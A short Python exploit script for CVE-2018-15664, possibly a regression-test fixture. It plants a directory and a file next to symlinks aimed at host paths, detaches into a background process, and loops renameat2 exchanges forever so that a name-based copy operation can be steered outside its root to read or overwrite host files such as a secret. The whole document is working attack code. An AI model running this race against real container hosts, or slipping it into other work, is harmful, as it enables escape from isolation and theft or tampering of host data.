# SPDX-License-Identifier: Apache-2.0
"""Swaps a directory and a file of the current directory with links to paths of the machine, for
ever and in a process that outlives the command: whoever collects by name can be led outside
(CVE-2018-15664). Usage: race.py HOSTDIR HOSTFILE (HOSTDIR holds a file `secret`)."""

import ctypes
import os
import sys

EXCHANGE = 2
libc = ctypes.CDLL(None)


def swap(one, two):
    libc.renameat2(-100, one, -100, two, EXCHANGE)


def main():
    directory, file = sys.argv[1:3]
    os.makedirs("d", exist_ok=True)
    for name in ("secret", "planted"):
        with open(os.path.join("d", name), "w") as stream:
            stream.write("mine\n")
    with open("f", "w") as stream:
        stream.write("mine\n")
    os.symlink(directory, "d-link")
    os.symlink(file, "f-link")
    if os.fork():
        os._exit(0)
    os.setsid()
    for fd in range(3):
        os.close(fd)
    while True:
        swap(b"d", b"d-link")
        swap(b"f", b"f-link")


main()
